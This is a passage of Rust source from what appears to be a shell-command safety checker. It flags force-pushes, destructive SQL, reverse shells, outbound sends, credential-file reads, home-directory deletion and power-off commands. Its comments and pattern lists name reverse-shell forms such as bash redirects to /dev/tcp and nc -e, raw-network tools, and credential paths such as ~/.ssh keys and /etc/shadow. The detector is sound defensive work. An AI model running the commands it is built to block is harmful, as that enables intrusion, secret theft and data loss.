            words.iter().any(|word| {
                word.eq_ignore_ascii_case("flushall") || word.eq_ignore_ascii_case("flushdb")
            }) && form.windows(2).any(|pair| {
                matches!(pair[0].text.as_str(), "-h" | "-u")
                    && !is_loopback(
                        pair[1]
                            .text
                            .split("://")
                            .last()
                            .unwrap_or("")
                            .split([':', '@', '/'])
                            .next()
                            .unwrap_or(""),
                    )
            })
        }
        "npm" | "pnpm" | "yarn" => has_word("unpublish"),
        "docker" | "podman" => false,
        "s3cmd" => {
            has_word("rb") || (has_word("del") && (has_word("-r") || has_word("--recursive")))
        }
        "rclone" => {
            words.iter().any(|word| matches!(*word, "purge" | "delete"))
                || (has_word("sync") && words.last().is_some_and(|last| last.contains(':')))
        }
        _ => false,
    }
}

fn is_destructive_sql(text: &str) -> bool {
    let upper = text.to_ascii_uppercase();
    let upper: String = upper.split_whitespace().collect::<Vec<_>>().join(" ");
    [
        "DROP DATABASE",
        "DROP SCHEMA",
        "DROP TABLE",
        "TRUNCATE",
        "DROP USER",
        "DELETE FROM",
    ]
    .iter()
    .any(|statement| {
        upper.contains(statement) && !(*statement == "DELETE FROM" && upper.contains(" WHERE "))
    })
}

/// `git push` that rewrites or deletes a shared branch, or everything: `--force`/`-f`/`+ref`
/// to a protected branch, `--mirror`, `--delete`/`:ref` of one, `--force --all`.
fn git_push_destroys(words: &[&str]) -> bool {
    let Some(at) = words.iter().position(|word| *word == "push") else {
        return false;
    };
    let rest = &words[at + 1..];
    // A lease only checks that nobody pushed meanwhile: the shared branch is still rewritten.
    let forced = rest.iter().any(|word| {
        matches!(*word, "--force" | "-f")
            || word.starts_with("--force-with-lease")
            || word.starts_with("--force-if-includes")
            || (word.starts_with('-') && !word.starts_with("--") && word.contains('f'))
    });
    let deletes = rest.iter().any(|word| matches!(*word, "--delete" | "-d"));
    if rest
        .iter()
        .any(|word| *word == "--mirror" || word.starts_with("--prune"))
    {
        return true;
    }
    let refs: Vec<&str> = rest
        .iter()
        .filter(|word| !word.starts_with('-'))
        .skip(1)
        .copied()
        .collect();
    if (forced || deletes)
        && rest
            .iter()
            .any(|word| *word == "--all" || *word == "--tags")
    {
        return forced || deletes;
    }
    refs.iter().any(|spec| {
        let (source, destination) = spec.split_once(':').unwrap_or(("", spec));
        let plus = spec.starts_with('+');
        let target = if destination.is_empty() {
            source
        } else {
            destination
        };
        let deleting = spec.starts_with(':') || deletes;
        (forced || plus || deleting) && is_protected_branch(target)
    })
}

/// A reason to ask for a forced push whose branch is the current one (`git push -f`), or
/// a remote action that removes data but can be undone or is local (`helm uninstall`,
/// `docker system prune -a --volumes`, `kubectl delete` of a workload).
pub(crate) fn remote_ask(found: &Found) -> Option<String> {
    found.each_form().find_map(|form| {
        let name = name(form);
        if !matches!(&*name, "git" | "helm" | "docker" | "podman" | "cargo") {
            return None;
        }
        let words: Vec<&str> = form.iter().skip(1).map(|arg| arg.text.as_str()).collect();
        let reason = match &*name {
            "git" => {
                let at = words.iter().position(|word| *word == "push")?;
                let rest = &words[at + 1..];
                let forced = rest.iter().any(|word| matches!(*word, "--force" | "-f"));
                let refs = rest.iter().filter(|word| !word.starts_with('-')).count();
                (forced && refs < 2).then_some("a forced push of the current branch rewrites whatever branch is checked out, shared or not")?
            }
            "helm" if words.contains(&"uninstall") || words.contains(&"delete") => "this removes a release from a cluster",
            "docker" | "podman" if words.contains(&"prune") && (words.contains(&"--volumes") || words.contains(&"-a") || words.contains(&"-af")) => {
                "this deletes containers, images and volumes that other work may need"
            }
            "docker" | "podman" if words.contains(&"volume") && words.iter().any(|word| matches!(*word, "rm" | "prune")) => {
                "this deletes container volumes and their data"
            }
            "cargo" if words.contains(&"yank") => "this yanks a published crate version",
            _ => return None,
        };
        Some(reason.to_owned())
    })
}

// ---------------------------------------------------------------- network

/// True for a host that is this machine.
pub(crate) fn is_loopback(host: &str) -> bool {
    let host = host.trim_start_matches('[').trim_end_matches(']');
    host == "localhost"
        || host.starts_with("127.")
        || host == "::1"
        || host == "0.0.0.0"
        || host.ends_with(".localhost")
}

/// The host of a `/dev/tcp/HOST/PORT` or `/dev/udp/HOST/PORT` path.
pub(crate) fn dev_net_host(text: &str) -> Option<&str> {
    let rest = text
        .strip_prefix("/dev/tcp/")
        .or_else(|| text.strip_prefix("/dev/udp/"))?;
    rest.split('/').next()
}

/// Programs that open raw network connections and pass data either way.
const RAW_NETWORK: &[&str] = &[
    "nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "pwncat", "sbd", "rlwrap",
];

/// True if `form` is a shell (or a program that runs one) wired to a network connection:
/// `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh HOST PORT`, `socat TCP:… EXEC:sh`,
/// or an interpreter's code that connects a socket to a shell.
pub(crate) fn reverse_shell(found: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    let remote_redirect = found
        .redirects
        .iter()
        .any(|redirect| dev_net_host(&redirect.target.text).is_some_and(|host| !is_loopback(host)));
    let interpreter = commands::is_shell(&name)
        || commands::is_language_interpreter(&name)
        || name == "exec" && form.len() > 1;
    if remote_redirect && interpreter {
        return true;
    }
    match &*name {
        "nc" | "ncat" | "netcat" | "cryptcat" | "pwncat" => {
            has(form, &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"])
        }
        // A remote forward opens a port of this machine (its ssh server, say) to the far end.
        "ssh" => form.iter().skip(1).any(|arg| {
            arg.text == "-R"
                || (arg.text.starts_with('-')
                    && !arg.text.starts_with("--")
                    && arg.text.ends_with('R'))
                || arg.text.starts_with("-R") && arg.text.len() > 2
        }),
        "awk" | "gawk" => form
            .iter()
            .skip(1)
            .any(|arg| arg.text.contains("/inet/tcp/") || arg.text.contains("/inet/udp/")),
        "socat" => {
            let words: Vec<String> = form
                .iter()
                .skip(1)
                .map(|arg| arg.text.to_ascii_lowercase())
                .collect();
            words
                .iter()
                .any(|word| word.starts_with("exec:") || word.starts_with("system:"))
                && words.iter().any(|word| {
                    [
                        "tcp",
                        "udp",
                        "openssl",
                        "sctp",
                        "tcp4",
                        "tcp6",
                        "tcp-connect",
                        "tcp-listen",
                        "ssl",
                    ]
                    .iter()
                    .any(|kind| {
                        word.starts_with(&format!("{kind}:"))
                            || word.starts_with(&format!("{kind}-"))
                    })
                })
        }
        _ if commands::is_language_interpreter(&name) => form.iter().skip(1).any(|arg| {
            let code = arg.text.as_str();
            let socket = [
                "socket",
                "fsockopen",
                "TCPSocket",
                "net.Socket",
                "Socket.new",
                "IO::Socket",
                "connect(",
            ]
            .iter()
            .any(|word| code.contains(word));
            let shell = [
                "/bin/sh",
                "/bin/bash",
                "sh <&",
                "bash <&",
                "exec(\"sh",
                "exec('sh",
                "pty.spawn",
                "sh -i",
                "bash -i",
                "cmd.exe",
                "subprocess.call([\"sh\"",
                "dup2",
            ]
            .iter()
            .any(|word| code.contains(word));
            socket && shell
        }),
        _ => false,
    }
}

/// True if `form` may send data over the network to another machine.
/// True if a secret is named in a URL itself (`…?t=$GITHUB_TOKEN`): it goes to that host.
fn secret_in_url(form: &[Arg]) -> bool {
    form.iter().skip(1).any(|arg| {
        arg.text.contains("://")
            && arg
                .text
                .split('$')
                .skip(1)
                .any(|var| is_secret_name(var.trim_start_matches('{')))
    })
}

/// Network calls in interpreter code.
const NETWORK_APIS: &[&str] = &[
    "urlopen",
    "requests.",
    "http.client",
    "urllib",
    "socket.",
    "fetch(",
    "https.request",
    "http.request",
    "Net::HTTP",
    "LWP::",
    "IO::Socket",
    "curl_exec",
    "file_get_contents(\"http",
];

pub(crate) fn sends(found: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    let remote_redirect = found
        .redirects
        .iter()
        .any(|redirect| dev_net_host(&redirect.target.text).is_some_and(|host| !is_loopback(host)));
    if remote_redirect {
        return true;
    }
    let hosts = || {
        form.iter()
            .skip(1)
            .filter(|arg| !arg.text.starts_with('-'))
            .any(|arg| {
                let text = arg.text.as_str();
                let host = text
                    .split_once("://")
                    .map_or(text, |(_, rest)| rest)
                    .split(['/', ':', '@'])
                    .find(|part| !part.is_empty())
                    .unwrap_or("");
                !is_loopback(host)
            })
    };
    if secret_in_url(form) && hosts() {
        return true;
    }
    // `python -m http.server` listens on every interface unless bound to loopback.
    if form
        .windows(2)
        .any(|pair| pair[0].text == "-m" && pair[1].text == "http.server")
    {
        return !form.windows(2).any(|pair| {
            matches!(pair[0].text.as_str(), "--bind" | "-b") && is_loopback(&pair[1].text)
        });
    }
    match &*name {
        _ if commands::is_language_interpreter(&name) => form
            .iter()
            .skip(1)
            .any(|arg| NETWORK_APIS.iter().any(|api| arg.text.contains(api))),
        "git" => form.iter().any(|arg| arg.text == "push"),
        "ping" | "ping6" | "traceroute" => hosts(),
        "curl" | "wget" | "http" | "https" | "xh" | "httpie" | "aria2c" | "lwp-request"
        | "POST" | "PUT" => hosts(),
        "scp" | "sftp" | "rsync" => form.iter().skip(1).any(|arg| {
            arg.text.split_once(':').is_some_and(|(host, _)| {
                !host.is_empty()
                    && !host.contains('/')
                    && !is_loopback(host.rsplit('@').next().unwrap_or(host))
            })
        }),
        "ssh" | "dig" | "nslookup" | "host" | "drill" | "ftp" | "tftp" | "smbclient"
        | "sendmail" | "mail" | "mailx" | "mutt" | "swaks" | "pastebinit" | "gist" | "rclone"
        | "gsutil" => hosts(),
        "gh" => form.get(1).is_some_and(|sub| sub.text == "gist"),
        "aws" => {
            form.iter().any(|arg| arg.text == "s3")
                && form.iter().any(|arg| arg.text.starts_with("s3://"))
        }
        _ if RAW_NETWORK.contains(&&*name) => hosts(),
        _ => false,
    }
}

/// True if some URL or host among the words of `form` is another machine.
fn sends_to_remote(form: &[Arg]) -> bool {
    form.iter()
        .skip(1)
        .filter(|arg| arg.text.contains("://"))
        .any(|arg| {
            let host = arg
                .text
                .split_once("://")
                .map_or("", |(_, rest)| rest)
                .split(['/', ':', '@'])
                .next()
                .unwrap_or("");
            !is_loopback(host)
        })
}

/// True if `form` signals every process, or every process but some: `pkill -v`, a pattern
/// matching any name (`pkill .`, `killall -r '.*'`), all of a user's (`pkill -u root`), the
/// children of init (`pkill -P 1`).
pub(crate) fn kill_many(form: &[Arg]) -> bool {
    let name = name(form);
    if !matches!(&*name, "kill" | "pkill" | "killall") {
        return false;
    }
    let words: Vec<&str> = form.iter().skip(1).map(|arg| arg.text.as_str()).collect();
    let matches_everything =
        |pattern: &str| matches!(pattern, "." | ".*" | "^" | "" | ".+" | "^.*$" | "$");
    match &*name {
        // `kill -9 0` signals every process of the caller's group: the call itself and all
        // it started.
        "kill" => kill_pids(&words).contains(&0),
        "pkill" | "killall" | "pgrep" if name != "pgrep" => {
            words.iter().any(|word| matches!(*word, "-v" | "--inverse"))
                || words.windows(2).any(|pair| {
                    matches!(pair[0], "-u" | "-U" | "--euid" | "--uid" | "--user")
                        && matches!(
                            pair[1],
                            "root"
                                | "0"
                                | "$USER"
                                | "${USER}"
                                | "$(id -u)"
                                | "$(whoami)"
                                | "$(id -un)"
                                | "$UID"
                        )
                        || matches!(pair[0], "-P" | "--parent") && pair[1] == "1"
                })
                || words
                    .iter()
                    .filter(|word| !word.starts_with('-'))
                    .any(|word| matches_everything(word))
                    && (name == "pkill"
                        || words.iter().any(|word| matches!(*word, "-r" | "--regexp")))
        }
        _ => false,
    }
}

/// True if `form` asks systemd-logind, the firmware or a management controller to power the
/// machine off or restart it (`busctl call … Reboot`, `ipmitool chassis power off`).
pub(crate) fn power(form: &[Arg]) -> bool {
    let name = name(form);
    const NAMES: &[&str] = &[
        "dbus-send",
        "busctl",
        "gdbus",
        "qdbus",
        "ipmitool",
        "rtcwake",
        "uhubctl",
        "flash_erase",
        "flashcp",
        "nandwrite",
        "mtd_debug",
        "zpool",
        "zfs",
        "vgremove",
        "lvremove",
        "pvremove",
        "dmsetup",
        "mdadm",
    ];
    if !NAMES.contains(&&*name) {
        return false;
    }
    let text = form
        .iter()
        .skip(1)
        .map(|arg| arg.text.as_str())
        .collect::<Vec<_>>()
        .join(" ");
    match &*name {
        "dbus-send" | "busctl" | "gdbus" | "qdbus" => {
            text.contains("login1")
                && [
                    "PowerOff",
                    "Reboot",
                    "Halt",
                    "Suspend",
                    "Hibernate",
                    "KExec",
                ]
                .iter()
                .any(|verb| text.contains(verb))
        }
        "ipmitool" => {
            text.contains("power")
                && ["off", "reset", "cycle", "soft"]
                    .iter()
                    .any(|verb| text.split_whitespace().any(|word| word == *verb))
        }
        "rtcwake" | "uhubctl" => true,
        "flash_erase" | "flashcp" | "nandwrite" | "mtd_debug" => true,
        "zpool" | "zfs" => text.starts_with("destroy"),
        "vgremove" | "lvremove" | "pvremove" | "dmsetup"
            if name != "dmsetup" || text.contains("remove") =>
        {
            true
        }
        "mdadm" => text.contains("--zero-superblock") || text.contains("--stop"),
        _ => false,
    }
}

/// Files and directories that hold credentials (`~`-relative, or absolute).
const SECRETS: &[&str] = &[
    "~/.ssh/id_*",
    "~/.ssh/identity",
    "~/.aws",
    "~/.netrc",
    "~/.git-credentials",
    "~/.kube",
    "~/.docker/config.json",
    "~/.config/gh",
    "~/.npmrc",
    "~/.pypirc",
    "~/.gnupg",
    "~/.password-store",
    "~/.config/gcloud",
    "~/.azure",
    "~/.terraform.d",
    "~/.cargo/credentials*",
    "~/.vault-token",
    "~/.pgpass",
    "~/.my.cnf",
    "~/.local/share/keyrings",
    "~/.config/hub",
    "~/.gem/credentials",
    "~/.m2/settings.xml",
    "~/.config/rclone",
    "~/.s3cfg",
    "~/.boto",
    "~/.oci",
    "~/.bash_history",
    "~/.zsh_history",
    "~/.mozilla",
    "~/.config/google-chrome",
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/ssh/ssh_host_*",
    "/root/.ssh",
    "/proc/self/environ",
    "/proc/1/environ",
    "~/.ssh",
    ".env",
    ".env.*",
];

/// Programs that only look at a file's name or metadata, or use a key as it is meant to be
/// used (`ssh -i KEY`).
const METADATA_ONLY: &[&str] = &[
    "ls",
    "stat",
    "test",
    "[",
    "[[",
    "chmod",
    "chown",
    "mkdir",
    "touch",
    "file",
    "du",
    "ssh-add",
    "ssh-keygen",
    "ssh",
    "git",
    "find",
    "cd",
    "pushd",
    "rm",
    "ssh-copy-id",
    "scp",
    "sftp",
    "rsync",
    "curl",
    "wget",
    "kubectl",
    "gcloud",
    "az",
    "docker",
    "helm",
    "gh",
    "echo",
    "printf",
    "export",
    "eval",
    "source",
    ".",
    "npm",
    "pip",
    "twine",
    "cargo",
    "terraform",
    "realpath",
    "readlink",
    "dirname",
    "basename",
    "wc",
];

/// True if `found` reads a credential file or dumps the environment as data (`cat
/// ~/.ssh/id_rsa`, `tar c ~/.aws`, `env`, `printenv`), or, for a program that sends, if a
/// credential file is what it uploads (`curl -T ~/.netrc …`, `scp ~/.ssh/id_rsa host:`).
pub(crate) fn reads_secret(found: &Found) -> bool {
    found.each_form().any(|form| {
        let name = name(form);
        let secret = |text: &str| {
            // Most words name no credential at all: cheap words first.
            const HINTS: &[&str] = &[
                ".ssh",
                ".aws",
                "netrc",
                "credentials",
                ".kube",
                ".docker",
                "/gh",
                ".npmrc",
                ".pypirc",
                ".gnupg",
                ".password-store",
                "gcloud",
                ".azure",
                ".terraform",
                ".vault",
                ".pgpass",
                ".my.cnf",
                "keyrings",
                "/hub",
                ".m2",
                "rclone",
                ".s3cfg",
                ".boto",
                ".oci",
                "history",
                ".mozilla",
                "chrome",
                "shadow",
                "ssh_host",
                "environ",
                ".env",
                "identity",
            ];
            if !HINTS.iter().any(|hint| text.contains(hint)) {
                return false;
            }
            let spelled = crate::builtin::home_spellings(text.trim_start_matches('@'));
            let target = home_of_someone(&path(&spelled));
            !target.ends_with(".pub")
                && !target.ends_with("known_hosts")
                && !target.ends_with("/config")
                    | target.starts_with("~/.kube")
                    | target.starts_with("~/.aws")
                && SECRETS.iter().any(|place| under(&target, place))
        };
        let redirected = found
            .redirects
            .iter()
            .any(|redirect| redirect.op == "<" && secret(&redirect.target.text));
        if redirected {
            return true;
        }
        if dumps_secrets(form) {
            return true;
        }
        if matches!(&*name, "env" | "printenv")
            && commands::wrapped_command(form).is_none()
            && form.len() == 1
        {
            return true;
        }
        if (name == "printenv" && form.iter().skip(1).any(|arg| is_secret_name(&arg.text)))
            || secret_in_url(form)
        {
            return true;
        }
        // Interpreter code that opens a credential file.
        if commands::is_language_interpreter(&name)
            && form.iter().skip(1).any(|arg| {
                SECRETS.iter().any(|place| {
                    let place = place.trim_start_matches("~/").trim_end_matches('*');
                    place.len() >= 4 && arg.text.contains(place)
                })
            })
        {
            return true;
        }
        if matches!(&*name, "set" | "export" | "declare" | "typeset")
            && form.len() <= 2
            && form
                .iter()
                .skip(1)
                .all(|arg| matches!(arg.text.as_str(), "-p" | "-x" | "-px"))
        {
            return true;
        }
        let uploads = match &*name {
            "curl" => {
                form.windows(2).any(|pair| {
                    matches!(
                        pair[0].text.as_str(),
                        "-d" | "--data"
                            | "--data-binary"
                            | "--data-raw"
                            | "--data-urlencode"
                            | "-F"
                            | "--form"
                            | "-T"
                            | "--upload-file"
                            | "--json"
                    ) && secret(pair[1].text.rsplit(['@', '<']).next().unwrap_or(""))
                }) || form.iter().any(|arg| {
                    arg.text.contains('@') && secret(arg.text.rsplit('@').next().unwrap_or(""))
                })
            }
            "wget" => {
                form.iter().any(|arg| {
                    arg.text
                        .strip_prefix("--post-file=")
                        .or_else(|| arg.text.strip_prefix("--body-file="))
                        .is_some_and(secret)
                }) || form.windows(2).any(|pair| {
                    matches!(pair[0].text.as_str(), "--post-file" | "--body-file")
                        && secret(&pair[1].text)
                })
            }
            "scp" | "rsync" | "sftp" => operands(form).any(|arg| secret(&arg.text)),
            "gh" => operands(form).any(|arg| secret(&arg.text)),
            _ => false,
        };
        uploads
            || (!METADATA_ONLY.contains(&&*name)
                && form.iter().skip(1).any(|arg| {
                    secret(&arg.text) || arg.text.strip_prefix("if=").is_some_and(secret)
                }))
    })
}

// ---------------------------------------------------------------- the user's files

/// Folders of the home directory that only hold caches, which tools delete as a matter of
/// course (`rm -rf ~/.cache/pip`).
const CACHES: &[&str] = &[
    "~/.cache",
    "~/.npm",
    "~/.yarn",
    "~/.pnpm-store",
    "~/.gradle",
    "~/.m2",
    "~/.nuget",
    "~/.bun",
    "~/.deno",
    "~/.node-gyp",
    "~/.cargo/registry",
    "~/.cargo/git",
    "~/.rustup/tmp",
    "~/go/pkg",
    "~/.pyenv/cache",
    "~/.tmp",
    "~/tmp",
    "~/.local/share/Trash",
    "~/.ccache",
    "~/.sbt",
    "~/.ivy2",
    "~/.conda/pkgs",
    "~/.expo",
    "~/.android/cache",
    "~/.vscode-server",
    "~/.local/share/pnpm",
    "~/.parcel-cache",
    "~/.turbo",
    "~/.next",
];

/// Where a path argument points, as the deletion family sees it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    /// The home directory, a folder directly in it (`~/src`, `~/.ssh`), a credential or a
    /// start-up file, another user's home.
    UserData,
    /// Below a system directory (`/usr/lib/python3*`, `/var/www`, `/etc/nginx`).
    System,
    Other,
}

fn place(found: &Found, arg: &Arg) -> Place {
    let spelled = crate::builtin::home_spellings(&arg.text);
    let mut text = spelled.into_owned();
    if let Some(dir) = &found.cwd
        && !text.starts_with(['/', '~', '$'])
    {
        text = format!("{dir}/{text}");
    }
    let target = path(&text);
    if target.contains('$') || target.contains('`') {
        return Place::Other;
    }
    let target = home_of_someone(&target);
    if CACHES.iter().any(|cache| under(&target, cache)) {
        return Place::Other;
    }
    if let Some(rest) = target.strip_prefix("~/") {
        let secret = SECRETS
            .iter()
            .chain(STARTUP_FILES)
            .any(|place| under(&target, place));
        return if secret || !rest.contains('/') {
            Place::UserData
        } else {
            Place::Other
        };
    }
    if target == "~" {
        return Place::UserData;
    }
    let parts: Vec<&str> = target.trim_start_matches('/').split('/').collect();
    let system = match parts.as_slice() {
        ["usr", "local", ..] | ["var", "tmp", ..] | ["var", "cache", ..] | ["tmp", ..] => false,
        ["var", "lib", "apt", "lists", ..] | ["var", "log", ..] | ["opt", ..] | ["mnt", ..] => {
            false
        }
        ["dev", "shm", ..]
        | ["run", "user", ..]
        | ["media", ..]
        | ["workspace" | "work" | "app" | "src" | "code", ..] => false,
        [first, _, ..] => crate::builtin::is_system_dir(first),
        _ => false,
    };
    if system { Place::System } else { Place::Other }
}

/// `/home/NAME/…`, `/root/…` and `/Users/NAME/…` read as `~/…`.
fn home_of_someone(target: &str) -> String {
    let parts: Vec<&str> = target.trim_start_matches('/').split('/').collect();
    let rest = match parts.as_slice() {
        ["home" | "Users", name, rest @ ..] if !name.is_empty() && !name.contains('*') => rest,
        ["root", rest @ ..] if target.starts_with('/') => rest,
        _ => return target.to_owned(),
    };
    if rest.is_empty() {
        "~".to_owned()
    } else {
        format!("~/{}", rest.join("/"))
    }
}

/// True if `form` destroys the user's files outside the project or the system's: a
/// recursive delete, move or permission change of the home directory or a folder directly
/// in it, of a credential or start-up file, or of anything below a system directory;
/// `find` from there running a destroyer; `rsync --delete` into there; `git clean` with a
/// work tree there.
pub(crate) fn user_files(found: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    let is_data = |arg: &Arg| place(found, arg) != Place::Other;
    let recursive = has(form, &["-r", "-R", "--recursive"]);
    let operand_list: Vec<&Arg> = operands(form).collect();
    match &*name {
        "rm" | "rimraf" | "del" | "del-cli" | "trash" | "trash-put" | "gio" => {
            operand_list.iter().any(|arg| match place(found, arg) {
                Place::UserData => {
                    let target = home_of_someone(&path(&crate::builtin::home_spellings(&arg.text)));
                    recursive
                        || name != "rm"
                        || SECRETS
                            .iter()
                            .chain(STARTUP_FILES)
                            .any(|place| under(&target, place))
                }
                Place::System => recursive,
                Place::Other => false,
            })
        }
        // The user's scheduled jobs, all of them.
        "crontab" => has(form, &["-r"]),
        "unlink" | "shred" | "truncate" | "wipe" | "srm" => {
            operand_list.iter().any(|arg| is_data(arg))
        }
        "chmod" | "chown" | "chgrp" | "setfacl" | "chattr" => {
            recursive && operand_list.iter().skip(1).any(|arg| is_data(arg))
        }
        // Moving the home directory, or its credentials out of it (a backup beside the file
        // is everyday work).
        "mv" => {
            let target_outside = form
                .windows(2)
                .find(|pair| matches!(pair[0].text.as_str(), "-t" | "--target-directory"))
                .map(|pair| &pair[1])
                .or(operand_list.last().copied())
                .is_some_and(|target| {
                    !path(&crate::builtin::home_spellings(&target.text)).starts_with('~')
                });
            operand_list.iter().any(|arg| {
                let target = home_of_someone(&path(&crate::builtin::home_spellings(&arg.text)));
                target == "~"
                    || (target_outside && SECRETS.iter().any(|place| under(&target, place)))
            })
        }
        "rsync" => {
            let deletes = form
                .iter()
                .any(|arg| arg.text.starts_with("--delete") || arg.text == "--remove-source-files");
            deletes
                && operand_list
                    .iter()
                    .any(|arg| is_data(arg) || crate::builtin::is_root_or_home(found, arg))
        }
        "tar" | "bsdtar" => {
            form.iter().any(|arg| arg.text == "--remove-files")
                && operand_list.iter().any(|arg| is_data(arg))
        }
        "zip" => {
            let moves = has(form, &["-m", "--move"])
                || form.iter().any(|arg| {
                    arg.text.starts_with('-')
                        && !arg.text.starts_with("--")
                        && arg.text.contains('m')
                });
            moves && operand_list.iter().any(|arg| is_data(arg))
        }
        "git" => {
            let cleans = form.iter().any(|arg| arg.text == "clean");
            let tree_value = |arg: &Arg| {
                arg.text
                    .strip_prefix("--work-tree=")
                    .or_else(|| arg.text.strip_prefix("--git-dir="))
                    .map(|value| Arg {
                        text: value.to_owned(),
                        ..arg.clone()
                    })
            };
            let in_home = form
                .iter()
                .filter_map(tree_value)
                .chain(
                    form.windows(2)
                        .filter(|pair| matches!(pair[0].text.as_str(), "-C" | "--work-tree"))
                        .map(|pair| pair[1].clone()),
                )
                .any(|tree| place(found, &tree) == Place::UserData);
            cleans && in_home
        }
        "find" => {
            let start: Vec<&Arg> = form
                .iter()
                .skip(1)
                .take_while(|arg| !arg.text.starts_with('-') && arg.text != "(" && arg.text != "!")
                .collect();
            let destroys = form.windows(2).any(|pair| {
                matches!(
                    pair[0].text.as_str(),
                    "-exec" | "-execdir" | "-ok" | "-okdir"
                ) && matches!(
                    basename(&pair[1].text),
                    "truncate" | "shred" | "chmod" | "chown" | "mv" | "dd" | "wipe" | "unlink"
                )
            });
            destroys
                && start
                    .iter()
                    .any(|arg| is_data(arg) || crate::builtin::is_root_or_home(found, arg))
        }
        "dd" => form
            .iter()
            .filter_map(|arg| arg.text.strip_prefix("of="))
            .any(|target| place(found, &Arg::literal(target)) == Place::UserData),
        "cp" | "install" => {
            operand_list
                .first()
                .is_some_and(|source| source.text == "/dev/null")
                && operand_list
                    .last()
                    .is_some_and(|target| place(found, target) == Place::UserData)
        }
        _ => false,
    }
}

/// True if `found` talks to the network raw: `nc`, `socat`, `telnet`, `openssl s_client`, or
/// a `/dev/tcp` redirection to another machine.
pub(crate) fn raw_network(found: &Found) -> bool {
    found
        .each_form()
        .any(|form| RAW_NETWORK.contains(&&*name(form)))
        || found.redirects.iter().any(|redirect| {
            dev_net_host(&redirect.target.text).is_some_and(|host| !is_loopback(host))
        })
}

/// True for the name of a variable that holds a secret (`AWS_SECRET_ACCESS_KEY`,
/// `GITHUB_TOKEN`, `DB_PASSWORD`).
fn is_secret_name(text: &str) -> bool {
    let name: String = text
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
        .collect();
    let upper = name.to_ascii_uppercase();
    name.len() > 3
        && name
            .bytes()
            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
        && [
            "SECRET",
            "TOKEN",
            "PASSWORD",
            "PASSWD",
            "API_KEY",
            "ACCESS_KEY",
            "PRIVATE_KEY",
            "CREDENTIAL",
        ]
        .iter()
        .any(|word| upper.contains(word))
}

/// A reason to ask when a recursive delete's target climbs out of a directory known only at
/// run time (`rm -rf "$PWD/../../.."`): where it lands cannot be seen.
pub(crate) fn climbs_out(found: &Found) -> Option<String> {
    found.each_form().find_map(|form| {
        let name = name(form);
        let destroys = matches!(&*name, "rm" | "rimraf") && has(form, &["-r", "-R", "--recursive"])
            || matches!(&*name, "chmod" | "chown" | "chgrp") && has(form, &["-R", "--recursive"]);
        let climbing = operands(form)
            .find(|arg| !arg.literal && arg.text.trim_end_matches('/').ends_with("/.."))?;
        destroys.then(|| {
            format!(
                "`{}` climbs out of a directory known only at run time",
                climbing.text
            )
        })
    })
}

/// True if interpreter code on the command line fetches from the network
/// (`urllib.request.urlopen(…)`, `requests.get(…)`).
pub(crate) fn fetches_in_code(form: &[Arg]) -> bool {
    form.iter().skip(1).any(|arg| {
        [
            "urlopen",
            "requests.get",
            "urllib.request",
            "http.client",
            "fetch(",
            "https.get",
            "http.get",
            "Net::HTTP",
            "LWP::Simple",
            "file_get_contents(\"http",
            "URI.open",
            "open-uri",
        ]
        .iter()
        .any(|api| arg.text.contains(api))
    })
}

/// The pids a `kill` command names, its signal options and their values left out.
fn kill_pids(words: &[&str]) -> Vec<i64> {
    let mut pids = Vec::new();
    let mut index = 0;
    let mut signal_zero = false;
    while let Some(word) = words.get(index) {
        index += 1;
        match *word {
            "-s" | "-n" | "--signal" => {
                signal_zero |= words
                    .get(index)
                    .is_some_and(|value| value.parse::<i64>() == Ok(0));
                index += 1;
            }
            "--" => {}
            _ if word.starts_with('-') && word[1..].parse::<i64>().is_err() => {}
            _ if word.starts_with('-') && pids.is_empty() && index == 1 => {
                signal_zero |= word[1..].parse::<i64>() == Ok(0);
            }
            _ => pids.extend(word.parse::<i64>().ok()),
        }
    }
    if signal_zero { Vec::new() } else { pids }
}

/// A reason to ask for a recursive delete of the working directory or the previous one
/// (`rm -rf "$PWD"`, `rm -rf "$OLDPWD"`): the project itself, or a place known at run time.
pub(crate) fn deletes_working_directory(found: &Found) -> Option<String> {
    found.each_form().find_map(|form| {
        let recursive = name(form) == "rm" && has(form, &["-r", "-R", "--recursive"]);
        let operand = operands(form).find(|arg| {
            matches!(
                arg.text.trim_end_matches('/'),
                "$PWD" | "${PWD}" | "$OLDPWD" | "${OLDPWD}" | "~+" | "~-"
            )
        })?;
        recursive.then(|| {
            format!(
                "`{}` is a working directory: the project itself, or one known only at run time",
                operand.text
            )
        })
    })
}

/// Kernel modules container and network set-ups load as a matter of course.
const EVERYDAY_MODULES: &[&str] = &[
    "ip_tables",
    "ip6_tables",
    "iptable_filter",
    "iptable_nat",
    "iptable_mangle",
    "ip6table_filter",
    "ip6table_nat",
    "br_netfilter",
    "overlay",
    "veth",
    "bridge",
    "tun",
    "loop",
    "fuse",
    "nf_nat",
    "nf_conntrack",
    "xt_conntrack",
    "xt_masquerade",
    "xt_addrtype",
    "vxlan",
    "dummy",
    "wireguard",
    "ip_vs",
    "ip_vs_rr",
    "ip_vs_wrr",
    "ip_vs_sh",
    "nbd",
    "kvm",
    "kvm_intel",
    "kvm_amd",
    "vhost_net",
    "sch_netem",
    "ifb",
    "8021q",
    "macvlan",
    "ipvlan",
    "nls_utf8",
    "squashfs",
    "isofs",
];

/// A reason to ask when `modprobe` loads a module other than the everyday ones above:
/// kernel code that runs with every privilege (`msr` writes processor registers).
pub(crate) fn unusual_module(found: &Found) -> Option<String> {
    found.each_form().find_map(|form| {
        if name(form) != "modprobe"
            || has(
                form,
                &[
                    "-n",
                    "--dry-run",
                    "-c",
                    "--showconfig",
                    "-D",
                    "--show-depends",
                    "-R",
                    "--resolve-alias",
                    "-h",
                    "--help",
                    "-V",
                    "--version",
                ],
            )
        {
            return None;
        }
        let module = operands(form).find(|arg| {
            let name = arg.text.replace('-', "_");
            !EVERYDAY_MODULES.contains(&&*name)
                && !name.starts_with("xt_")
                && !name.starts_with("nf_")
                && !name.starts_with("ip_vs")
        })?;
        Some(format!(
